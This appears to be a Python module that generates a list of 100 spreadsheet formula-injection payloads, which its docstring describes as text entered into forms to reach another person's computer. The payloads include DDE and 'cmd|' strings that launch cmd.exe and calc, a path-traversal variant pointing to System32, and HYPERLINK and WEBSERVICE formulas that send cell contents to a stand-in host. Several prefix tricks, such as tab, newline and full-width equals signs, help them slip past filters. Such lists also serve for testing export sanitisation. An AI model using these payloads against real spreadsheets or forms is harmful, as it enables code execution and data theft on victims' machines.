"""A hundred texts that spreadsheets could take for formulas: typed into a form to reach another's computer."""

_FORMULAS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.test/?"&A1,"open")', "SUM(A1:A9)",
    'IMPORTXML("http://x.test","//a")', 'WEBSERVICE("http://x.test/"&A2)', 'DDE("cmd";"/C calc";"x")',
    "@SUM(1+9)*cmd|' /C calc'!A0", "2+5+cmd|' /C calc'!A0", "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!\"\"", "A1",
    'INDIRECT("A"&1)',
)  # fmt: skip
_SIGNS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝")
PAYLOADS = [sign + formula for sign in _SIGNS for formula in _FORMULAS] + ["=", "+", "-", "@"]
assert len(PAYLOADS) == 100
